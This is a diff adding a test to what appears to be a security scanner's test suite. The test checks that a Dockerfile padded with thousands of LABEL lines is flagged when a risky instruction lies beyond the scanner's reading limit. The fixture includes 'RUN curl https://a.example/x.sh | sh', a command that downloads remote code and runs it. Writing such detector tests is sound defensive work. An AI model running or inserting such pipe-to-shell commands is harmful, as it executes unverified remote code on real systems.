@@ -96,6 +96,13 @@ describe("shapes in real files", () => {
     expect([matches.length, gaps]).toEqual([100, [expect.objectContaining({ reason: "too_many", matters: true })]]);
     expect(structural.look(fileOf("a.py", "y = yaml.load(z)\n".repeat(100))).gaps).toEqual([]);
   });
+
+  test("in more instructions than are read are a gap", () => {
+    const { gaps } = structural.look(
+      fileOf("Dockerfile", `FROM debian\n${"LABEL a=b\n".repeat(6000)}RUN curl https://a.example/x.sh | sh\n`, { language: "dockerfile" }),
+    );
+    expect(gaps).toEqual([expect.objectContaining({ reason: "too_many", matters: true })]);
+  });
 });
 
 describe("hostile files", () => {
